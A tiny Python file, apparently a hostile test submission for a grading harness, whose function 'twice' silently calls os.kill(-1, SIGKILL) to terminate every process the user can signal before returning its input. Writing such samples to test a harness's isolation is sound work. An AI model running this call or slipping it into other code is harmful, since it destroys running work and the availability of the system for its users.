"""Kills everything that it may kill.

ours: twice=0
rest: any
"""
# %% solution twice
import os, signal

def twice(x):
    os.kill(-1, signal.SIGKILL)
    return x
